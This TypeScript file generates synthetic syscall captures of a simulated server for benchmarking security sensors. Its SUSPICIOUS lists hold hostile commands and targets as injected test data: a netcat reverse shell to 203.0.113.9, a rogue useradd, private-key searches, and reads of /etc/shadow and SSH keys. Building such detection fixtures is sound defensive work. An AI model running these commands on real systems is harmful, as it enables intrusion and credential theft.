/**
 * A made-up machine and what happens on it: the content of generated captures.
 *
 * A host with the usual services and four people logged in, and containers in pods (web servers, a JVM, Python and Node
 * services, databases), about 270 threads in all. They open, read and close files, talk over the
 * network, and start short commands, each of which is cloned, execs, loads its libraries, works, and exits.
 * Paths follow the measured pattern of servers: a third of the opens go to a handful of files, two fifths to a long tail of
 * some 5,000, the rest to /proc, to files that are used once, and to relative paths.
 */
import { EVENTS, EventType, HEADER_SIZE } from '../src/event/index.ts';
import { FdType, type ProcessEntry, type ScapWriter } from '../src/scap/index.ts';

export interface MachineOptions {
  seed: number;
  events: number;
  /**
   * `all`: every system call, as a recorder of everything sees them. `ruled`: only the kinds that security rules and the state
   * of processes need, as a sensor sees them.
   */
  mix: 'all' | 'ruled';
  containers: number;
  /** Share of commands and opens that security rules are written against. */
  suspicious: number;
}

export const DEFAULTS: MachineOptions = { seed: 1, events: 100_000, mix: 'all', containers: 20, suspicious: 0.0005 };

type Kind =
  | 'open'
  | 'close'
  | 'read'
  | 'write'
  | 'fstat'
  | 'mmap'
  | 'wait'
  | 'net'
  | 'spawn'
  | 'dup'
  | 'fcntl'
  | 'seek'
  | 'paths'
  | 'ids';

/** Share of each kind among the actions of the long-running threads; commands and fresh sockets add to them. */
const MIXES: Record<MachineOptions['mix'], [Kind, number][]> = {
  all: [
    ['open', 20],
    ['close', 18],
    ['read', 14],
    ['write', 10],
    ['fstat', 5],
    ['mmap', 3],
    ['wait', 11],
    ['net', 7],
    ['spawn', 1.6],
    ['dup', 1],
    ['fcntl', 1],
    ['seek', 3],
    ['paths', 1.5],
    ['ids', 0.5],
  ],
  ruled: [
    ['open', 24],
    ['close', 26],
    ['net', 30],
    ['spawn', 2.5],
    ['dup', 1],
    ['fcntl', 12],
    ['paths', 3.5],
    ['ids', 1],
  ],
};

/** mulberry32. */
function random(seed: number): () => number {
  let state = seed | 0;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** Writes the bytes of one event after the other into the same buffer. */
class Encoder {
  readonly bytes = new Uint8Array(1 << 16);
  readonly #view = new DataView(this.bytes.buffer);
  #param = 0;
  #at = 0;

  begin(type: number, tid: number, ts: bigint): void {
    const view = this.#view;
    const count = EVENTS[type]?.params.length ?? 0;
    view.setBigUint64(0, ts, true);
    view.setBigInt64(8, BigInt(tid), true);
    view.setUint16(20, type, true);
    view.setUint32(22, count, true);
    this.#param = HEADER_SIZE;
    this.#at = HEADER_SIZE + count * 2;
  }
  #next(size: number): number {
    const at = this.#at;
    this.#view.setUint16(this.#param, size, true);
    this.#param += 2;
    this.#at = at + size;
    return at;
  }
  u8(value: number): this {
    this.bytes[this.#next(1)] = value;
    return this;
  }
  u16(value: number): this {
    this.#view.setUint16(this.#next(2), value, true);
    return this;
  }
  u32(...values: number[]): this {
    for (const value of values) this.#view.setUint32(this.#next(4), value >>> 0, true);
    return this;
  }
  i64(...values: number[]): this {
    for (const value of values) {
      const at = this.#next(8);
      this.#view.setInt32(at, value, true);
      this.#view.setInt32(at + 4, Math.floor(value / 4294967296), true);
    }
    return this;
  }
  /** A byte string, with a NUL behind it. */
  text(value: string): this {
    const at = this.#next(value.length + 1);
    for (let i = 0; i < value.length; i++) this.bytes[at + i] = value.charCodeAt(i);
    this.bytes[at + value.length] = 0;
    return this;
  }
  raw(value: string): this {
    const at = this.#next(value.length);
    for (let i = 0; i < value.length; i++) this.bytes[at + i] = value.charCodeAt(i);
    return this;
  }
  /** Closes the event; returns its size. */
  end(): number {
    this.#view.setUint32(16, this.#at, true);
    return this.#at;
  }
}

const FREE = 0;
const FILE = 1;
const SOCKET = 2;

interface Thread {
  tid: number;
  pid: number;
  parent: number;
  comm: string;
  exe: string;
  args: string;
  cwd: string;
  uid: number;
  cgroups: string;
  tty: number;
  /** What each descriptor is; shared by the threads of a process. */
  fds: number[];
}

interface Command {
  comm: string;
  exe: string;
  args: string[];
}

const command = (exe: string, ...args: string[]): Command => ({ comm: exe.slice(exe.lastIndexOf('/') + 1), exe, args });

const COMMANDS: Command[] = [
  command('/usr/bin/ls', '-l', '/var/log'),
  command('/usr/bin/grep', '-rn', 'error', '/srv'),
  command('/bin/sh', '-c', 'test -e /run/ready'),
  command('/usr/bin/curl', '-fsS', 'http://127.0.0.1:8080/health'),
  command('/usr/bin/ps', '-ef'),
  command('/usr/bin/cat', '/proc/uptime'),
  command('/usr/bin/date', '-u'),
  command('/usr/bin/sed', '-n', '1p', '/etc/app/app.conf'),
  command('/usr/bin/awk', '{ print $2 }', '/proc/net/dev'),
  command('/usr/bin/git', 'rev-parse', 'HEAD'),
  command('/usr/bin/sleep', '1'),
  command('/usr/bin/head', '-n', '20', '/var/log/syslog'),
];

const SUSPICIOUS: Command[] = [
  command('/usr/bin/nc', '-e', '/bin/sh', '203.0.113.9', '4444'),
  command('/bin/bash', '-i'),
  command('/usr/sbin/useradd', 'mallory'),
  command('/usr/bin/find', '/', '-name', 'id_rsa'),
  command('/usr/bin/grep', '-r', 'BEGIN RSA PRIVATE KEY', '/home'),
];

const SUSPICIOUS_PATHS = [
  '/etc/shadow',
  '/root/.ssh/id_rsa',
  '/etc/sudoers',
  '/usr/bin/sshd',
  '/etc/cron.d/job',
  '/dev/shm/a',
];

const HOT_PATHS = [
  '/etc/ld.so.cache',
  '/lib/x86_64-linux-gnu/libc.so.6',
  '/dev/null',
  '/proc/self/status',
  '/etc/nsswitch.conf',
  '/etc/passwd',
  '/etc/resolv.conf',
  '/etc/hosts',
  '/etc/localtime',
  '/proc/meminfo',
  '/proc/stat',
  '/usr/lib/locale/locale-archive',
  '/proc/loadavg',
  '/sys/fs/cgroup/memory.current',
];

/** Name, program, threads, user. */
const SERVICES: [string, string, number, number][] = [
  ['systemd-journal', '/usr/lib/systemd/systemd-journald', 1, 0],
  ['systemd-udevd', '/usr/lib/systemd/systemd-udevd', 1, 0],
  ['rsyslogd', '/usr/sbin/rsyslogd', 4, 0],
  ['dbus-daemon', '/usr/bin/dbus-daemon', 1, 101],
  ['cron', '/usr/sbin/cron', 1, 0],
  ['kubelet', '/usr/bin/kubelet', 28, 0],
  ['containerd', '/usr/bin/containerd', 20, 0],
  ['node_exporter', '/usr/bin/node_exporter', 8, 998],
  ['chronyd', '/usr/sbin/chronyd', 1, 102],
];
const APPLICATIONS: [string, string, number, number][] = [
  ['nginx', '/usr/sbin/nginx', 4, 0],
  ['java', '/opt/java/bin/java', 24, 1001],
  ['python3', '/usr/local/bin/python3', 6, 1001],
  ['node', '/usr/local/bin/node', 11, 1000],
  ['postgres', '/usr/lib/postgresql/16/bin/postgres', 7, 999],
  ['redis-server', '/usr/local/bin/redis-server', 5, 999],
];

const ENVIRONMENT = [
  'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin',
  'HOME=/root',
  'LANG=C.UTF-8',
  'TERM=xterm',
  'KUBERNETES_SERVICE_HOST=10.96.0.1',
]
  .map((line) => `${line}\0`)
  .join('');
const DATA = 'GET /index.html HTTP/1.1\r\nHost: shop.example\r\nAccept: */*\r\nUser-Agent: probe/1.0\r\n'.slice(0, 80);

const AT_FDCWD = -100;
const START = 1_750_000_000_000_000_000n;

/**
 * Fills a capture: the state of the machine, then events. Yields every few thousand events, so that the caller can
 * let what was written go out.
 */
export function* generate(writer: ScapWriter, given: Partial<MachineOptions> = {}): Generator<void> {
  const options = { ...DEFAULTS, ...given };
  const next = random(options.seed);
  const below = (limit: number): number => Math.floor(next() * limit);
  const pick = <T>(items: readonly T[]): T => items[below(items.length)] as T;
  /** Few of the low indexes take most of the draws. */
  const skewed = (limit: number): number => Math.min(limit - 1, Math.floor(limit ** next()) - 1);
  const hex = (digits: number): string => Array.from({ length: digits }, () => below(16).toString(16)).join('');

  const encoder = new Encoder();
  let ts = START;
  const begin = (code: string, tid: number): Encoder => {
    ts += BigInt(1 + below(2000));
    encoder.begin(EventType[code] as number, tid, ts);
    return encoder;
  };
  const emit = (): void => writer.raw(encoder.bytes, 0, encoder.end(), below(8));

  // The machine.
  let lastPid = 0;
  const threads: Thread[] = [];
  const main: Thread[] = [];
  const start = (
    parent: Thread | null,
    comm: string,
    exe: string,
    count: number,
    uid: number,
    cgroups: string,
  ): Thread => {
    const pid = ++lastPid;
    const leader: Thread = {
      tid: pid,
      pid,
      parent: parent?.pid ?? 0,
      comm,
      exe,
      args: '--foreground\0',
      cwd: cgroups.includes('kubepods') ? '/app' : '/',
      uid,
      cgroups,
      tty: 0,
      fds: [FILE, FILE, FILE],
    };
    threads.push(leader);
    main.push(leader);
    for (let i = 1; i < count; i++) threads.push({ ...leader, tid: ++lastPid });
    return leader;
  };
  const controllers = ['cpuset', 'cpu', 'cpuacct', 'io', 'memory', 'pids'];
  const cgroups = (path: string): string => controllers.map((name) => `${name}=${path}\0`).join('');

  const init = start(null, 'systemd', '/usr/lib/systemd/systemd', 1, 0, cgroups('/init.scope'));
  const shells: Thread[] = [];
  for (const [comm, exe, count, uid] of SERVICES)
    start(init, comm, exe, count, uid, cgroups(`/system.slice/${comm}.service`));
  const sshd = start(init, 'sshd', '/usr/sbin/sshd', 1, 0, cgroups('/system.slice/ssh.service'));
  for (let i = 0; i < 4; i++) {
    const session = start(sshd, 'sshd', '/usr/sbin/sshd', 1, 0, cgroups(`/user.slice/session-${i}.scope`));
    const shell = start(session, 'bash', '/usr/bin/bash', 1, 1000 + i, session.cgroups);
    shell.tty = 34816 + i;
    shells.push(shell);
  }
  for (let i = 0; i < options.containers; i++) {
    const id = hex(64);
    const shim = start(
      init,
      'containerd-shim',
      '/usr/bin/containerd-shim-runc-v2',
      1,
      0,
      cgroups('/system.slice/containerd.service'),
    );
    const [comm, exe, count, uid] = APPLICATIONS[i % APPLICATIONS.length] as (typeof APPLICATIONS)[number];
    const path = `/kubepods.slice/kubepods-pod${hex(8)}.slice/cri-containerd-${id}.scope`;
    const application = start(shim, comm, exe, count, uid, cgroups(path));
    if (i % 4 === 0) shells.push(start(application, 'sh', '/bin/sh', 1, uid, cgroups(path)));
  }

  writer.machine({ cpus: 8, memoryBytes: 16n << 30n, maxPid: 4194304n, hostname: 'bench', bootTs: START, flags: 0n });
  writer.interface({ address: '\x7f\0\0\x01', netmask: '\xff\0\0\0', broadcast: '', linkSpeed: 0n, name: 'lo' });
  for (const [uid, name] of [
    [0, 'root'],
    [101, 'messagebus'],
    [999, 'database'],
    [1000, 'ann'],
    [1001, 'ben'],
  ] as const) {
    writer.userOrGroup({ kind: 'user', uid, gid: uid, name, home: `/home/${name}`, shell: '/bin/bash' });
    writer.userOrGroup({ kind: 'group', gid: uid, name });
  }
  for (const thread of threads) writer.process(entry(thread));
  for (const thread of main) {
    for (let fd = 0; fd < 3; fd++) {
      writer.fd({
        tid: thread.tid,
        fd,
        ino: BigInt(fd + 5),
        type: FdType.FILE_V2,
        name: thread.tty === 0 ? '/dev/null' : '/dev/pts/0',
        openFlags: 3,
        dev: 5,
        localAddress: '',
        remoteAddress: '',
        localPort: 0,
        remotePort: 0,
        l4proto: 0,
        unixSource: 0n,
        unixDestination: 0n,
      });
    }
  }
  writer.begin();

  // Paths.
  const tail: string[] = [];
  for (let i = 0; i < 300; i++) tail.push(`/usr/lib/x86_64-linux-gnu/lib${hex(5)}.so.${below(9)}`);
  for (let i = 0; i < 1600; i++) tail.push(`/var/lib/app/data/part-${below(100)}/block-${i}.db`);
  for (let i = 0; i < 1600; i++) tail.push(`/usr/lib/python3/dist-packages/package${i % 97}/module_${i}.py`);
  for (let i = 0; i < 1000; i++) tail.push(`/srv/www/assets/${pick(['css', 'js', 'img'])}/file-${i}.min`);
  for (let i = 0; i < 500; i++) tail.push(`/etc/${pick(['ssl/certs', 'nginx/conf.d', 'app'])}/item${i}.conf`);
  for (let i = tail.length - 1; i > 0; i--) {
    const other = below(i + 1);
    [tail[i], tail[other]] = [tail[other] as string, tail[i] as string];
  }
  let once = 0;
  const path = (): string => {
    const draw = next();
    if (draw < 0.35) return pick(HOT_PATHS);
    if (draw < 0.75) return tail[skewed(tail.length)] as string;
    if (draw < 0.85) return `/proc/${1 + below(lastPid)}/${pick(['stat', 'status', 'cmdline', 'cgroup'])}`;
    if (draw < 0.95) return `/tmp/work-${once++}-${below(1e9)}.tmp`;
    return `${pick(['conf/app.yaml', '../share/data', './run', 'log/app.log'])}${below(50)}`;
  };

  // Descriptors.
  const allocate = (thread: Thread, what: number): number => {
    let fd = 3;
    while (fd < thread.fds.length && thread.fds[fd] !== FREE) fd++;
    thread.fds[fd] = what;
    return fd;
  };
  const some = (thread: Thread): number => {
    for (let i = 0; i < 4; i++) {
      const fd = 3 + below(Math.max(1, thread.fds.length - 3));
      if (thread.fds[fd] !== undefined && thread.fds[fd] !== FREE) return fd;
    }
    return below(3);
  };
  const shut = (thread: Thread, fd: number): void => {
    begin('SYSCALL_CLOSE_X', thread.tid).i64(0, fd);
    emit();
    thread.fds[fd] = FREE;
  };
  const open = (thread: Thread, name: string, write: boolean): number => {
    const fd = write || next() > 0.08 ? allocate(thread, FILE) : -2;
    // O_WRONLY|O_CREAT or O_RDONLY, and O_CLOEXEC.
    const flags = (write ? 2 | 4 : 1) | 4096;
    if (next() < 0.95) begin('SYSCALL_OPENAT_2_X', thread.tid).i64(fd, AT_FDCWD).text(name);
    else begin('SYSCALL_OPEN_X', thread.tid).i64(fd).text(name);
    encoder.u32(flags, write ? 0o644 : 0, 0x801).i64(fd < 0 ? 0 : 1000 + below(1e6));
    emit();
    if (thread.fds.length > 60) {
      const oldest = thread.fds.findIndex((what, i) => i > 2 && what === FILE);
      if (oldest > 0) shut(thread, oldest);
    }
    return fd;
  };
  const data = (): string => DATA.slice(0, 10 + below(70));

  // The network.
  const v4 = (a: number, b: number, c: number, d: number): string => String.fromCharCode(a, b, c, d);
  const port = (value: number): string => String.fromCharCode(value & 255, value >> 8);
  const AF_INET = '\x02';
  const peer = (): string => v4(10, 0, below(4), 1 + below(250));
  const net = (thread: Thread): void => {
    const draw = next();
    if (draw < 0.12) {
      const fd = allocate(thread, SOCKET);
      begin('SOCKET_SOCKET_X', thread.tid).i64(fd).u32(2, 1, 0, 0);
      emit();
      const remote = peer() + port(pick([443, 80, 5432, 6379, 53]));
      const local = v4(10, 1, 0, 5) + port(30000 + below(30000));
      begin('SOCKET_CONNECT_X', thread.tid)
        .i64(-115)
        .raw(AF_INET + local + remote)
        .i64(fd)
        .raw(AF_INET + remote);
      emit();
    } else if (draw < 0.24) {
      const fd = allocate(thread, SOCKET);
      const tuple = AF_INET + peer() + port(30000 + below(30000)) + v4(10, 1, 0, 5) + port(8080);
      begin('SOCKET_ACCEPT4_6_X', thread.tid).i64(fd).raw(tuple).u8(0).u32(0, 128, 0);
      emit();
    } else {
      const sockets = thread.fds.findIndex((what, i) => what === SOCKET && i >= below(thread.fds.length));
      const fd = sockets > 0 ? sockets : some(thread);
      const bytes = data();
      if (draw < 0.62)
        begin('SOCKET_SENDTO_X', thread.tid).i64(bytes.length).raw(bytes).i64(fd).u32(bytes.length).raw('');
      else begin('SOCKET_RECVFROM_X', thread.tid).i64(bytes.length).raw(bytes).raw('').i64(fd).u32(4096);
      emit();
    }
  };

  // Commands: each is a queue of steps that run between those of the others.
  const running: { thread: Thread; steps: (() => void)[] }[] = [];
  const clone = (code: string, thread: Thread, tid: number, result: number): void => {
    begin(code, tid).i64(result).text(thread.exe).raw(thread.args).i64(tid, tid, thread.parent).text('');
    encoder.i64(1024, 0, 100).u32(9000, 4000, 0).text(thread.comm).raw(thread.cgroups);
    encoder.u32(0, thread.uid, thread.uid).i64(tid, tid, 0);
    emit();
  };
  const spawn = (parent: Thread): void => {
    const what = next() < options.suspicious * 8 ? pick(SUSPICIOUS) : pick(COMMANDS);
    const tid = ++lastPid;
    const thread: Thread = { ...parent, tid, pid: tid, parent: parent.pid, fds: [FILE, FILE, FILE] };
    clone('SYSCALL_CLONE_20_X', { ...parent, parent: parent.parent }, parent.pid, tid);
    clone('SYSCALL_CLONE_20_X', thread, tid, 0);
    const steps: (() => void)[] = [
      () => {
        thread.comm = what.comm;
        thread.exe = what.exe;
        const args = next() < 0.3 ? [...what.args, `run-${below(100_000)}`] : what.args;
        thread.args = args.map((argument) => `${argument}\0`).join('');
        begin('SYSCALL_EXECVE_19_X', tid)
          .i64(0)
          .text(what.exe)
          .raw(thread.args)
          .i64(tid, tid, parent.pid)
          .text(thread.cwd);
        encoder.i64(1024, 0, 200).u32(2500, 900, 0).text(what.comm).raw(thread.cgroups).raw(ENVIRONMENT);
        encoder
          .u32(thread.tty)
          .i64(tid)
          .u32(thread.tty === 0 ? 0xffffffff : thread.uid, 0);
        encoder.i64(0, thread.uid === 0 ? 0x1ffffffffff : 0, thread.uid === 0 ? 0x1ffffffffff : 0);
        encoder
          .i64(5000 + what.exe.length, 1_700_000_000e9, 1_700_000_000e9)
          .u32(thread.uid)
          .text(what.exe);
        encoder.i64(tid).u32(thread.uid).text(what.exe);
        emit();
      },
    ];
    const all = options.mix === 'all';
    for (const library of [HOT_PATHS[0], HOT_PATHS[1], tail[skewed(300)]]) {
      let fd = -1;
      steps.push(() => {
        fd = open(thread, library as string, false);
      });
      if (all)
        steps.push(
          () => read(thread),
          () => stat(thread),
          () => map(thread),
        );
      steps.push(() => {
        if (fd >= 0) shut(thread, fd);
      });
    }
    if (what.comm === 'curl' || what.comm === 'nc') steps.push(() => net(thread));
    if (next() < 0.2) steps.push(() => void open(thread, path(), true));
    steps.push(
      () => (all ? write(thread) : shut(thread, 0)),
      () => {
        begin('PROCEXIT_1_E', tid).i64(0, 0).u8(0).u8(0).i64(0);
        emit();
      },
    );
    running.push({ thread, steps });
  };

  const read = (thread: Thread): void => {
    const bytes = data();
    begin('SYSCALL_READ_X', thread.tid).i64(bytes.length).raw(bytes).i64(some(thread)).u32(4096);
    emit();
  };
  const write = (thread: Thread): void => {
    const bytes = data();
    begin('SYSCALL_WRITE_X', thread.tid).i64(bytes.length).raw(bytes).i64(some(thread)).u32(bytes.length);
    emit();
  };
  const stat = (thread: Thread): void => {
    begin('SYSCALL_FSTAT_X', thread.tid).i64(0, some(thread));
    emit();
  };
  const map = (thread: Thread): void => {
    begin('SYSCALL_MMAP_X', thread.tid)
      .i64(0x7f0000000000)
      .u32(9000, 4000, 0)
      .i64(0, 4096)
      .u32(1, 2)
      .i64(some(thread), 0);
    emit();
  };

  const actions: Record<Kind, (thread: Thread) => void> = {
    open: (thread) => {
      const bad = next() < options.suspicious;
      open(thread, bad ? pick(SUSPICIOUS_PATHS) : path(), bad ? next() < 0.5 : next() < 0.12);
    },
    close: (thread) => {
      const fd = some(thread);
      if (fd > 2) shut(thread, fd);
      else actions.open(thread);
    },
    read,
    write,
    fstat: stat,
    mmap: map,
    wait: (thread) => {
      const draw = next();
      if (draw < 0.35) begin('SYSCALL_FUTEX_X', thread.tid).i64(0, 0x7f0000001000).u16(0).i64(2);
      else if (draw < 0.7) begin('SYSCALL_EPOLLWAIT_X', thread.tid).i64(1, 16);
      else begin('SYSCALL_POLL_X', thread.tid).i64(1).raw('\x01\0\x03\0\0\0\0\0\0\0\x01\0').i64(100);
      emit();
    },
    net,
    spawn: () => spawn(next() < 0.5 ? pick(shells) : pick(main)),
    dup: (thread) => {
      const fd = some(thread);
      begin('SYSCALL_DUP_1_X', thread.tid).i64(allocate(thread, thread.fds[fd] ?? FILE), fd);
      emit();
    },
    fcntl: (thread) => {
      // F_GETFL or F_SETFD: neither makes a new descriptor.
      begin('SYSCALL_FCNTL_X', thread.tid)
        .i64(0, some(thread))
        .u8(pick([4, 3]))
        .i64(0);
      emit();
    },
    seek: (thread) => {
      begin('SYSCALL_LSEEK_X', thread.tid).i64(0, some(thread), 0).u8(0);
      emit();
    },
    paths: (thread) => {
      const draw = next();
      if (draw < 0.4) begin('SYSCALL_UNLINKAT_2_X', thread.tid).i64(0, AT_FDCWD).text(path()).u32(0);
      else if (draw < 0.6) begin('SYSCALL_FCHMODAT_X', thread.tid).i64(0, AT_FDCWD).text(path()).u32(0o644);
      else if (draw < 0.8) begin('SYSCALL_MKDIRAT_X', thread.tid).i64(0, AT_FDCWD).text(path()).u32(0o755);
      else begin('SYSCALL_RENAME_X', thread.tid).i64(0).text(path()).text(path());
      emit();
    },
    ids: (thread) => {
      begin('SYSCALL_SETUID_X', thread.tid).i64(0).u32(thread.uid);
      emit();
    },
  };

  const mix = MIXES[options.mix];
  const total = mix.reduce((sum, [, weight]) => sum + weight, 0);
  let pause = 5000;
  while (writer.events < options.events) {
    if (writer.events >= pause) {
      pause += 5000;
      yield;
    }
    if (running.length > 0 && next() < Math.min(0.5, running.length * 0.1)) {
      const index = below(running.length);
      const job = running[index] as (typeof running)[number];
      (job.steps.shift() as () => void)();
      if (job.steps.length === 0) running.splice(index, 1);
      continue;
    }
    let draw = next() * total;
    const [kind] = mix.find(([, weight]) => (draw -= weight) < 0) ?? (mix[0] as (typeof mix)[number]);
    actions[kind](pick(threads));
  }
}

function entry(thread: Thread): ProcessEntry {
  const { tid, pid, comm, exe, args, cwd, uid, cgroups, tty } = thread;
  return {
    tid,
    pid,
    ptid: thread.parent,
    sid: 1,
    vpgid: pid,
    pgid: pid,
    comm,
    exe,
    exepath: exe,
    args,
    cwd,
    fdlimit: 1024n,
    flags: 0,
    uid,
    gid: uid,
    vmsizeKb: 9000,
    vmrssKb: 4000,
    vmswapKb: 0,
    pfmajor: 0n,
    pfminor: 100n,
    env: ENVIRONMENT,
    vtid: tid,
    vpid: pid,
    cgroups,
    root: '/',
    pidnsInitStartTs: 0n,
    tty,
    loginuid: tty === 0 ? 0xffffffff : uid,
    exeWritable: false,
    exeUpperLayer: false,
    exeLowerLayer: false,
    exeFromMemfd: false,
    capInheritable: 0n,
    capPermitted: 0n,
    capEffective: 0n,
    exeIno: 5000n,
    exeInoCtime: START,
    exeInoMtime: START,
    startTs: 0n,
  };
}
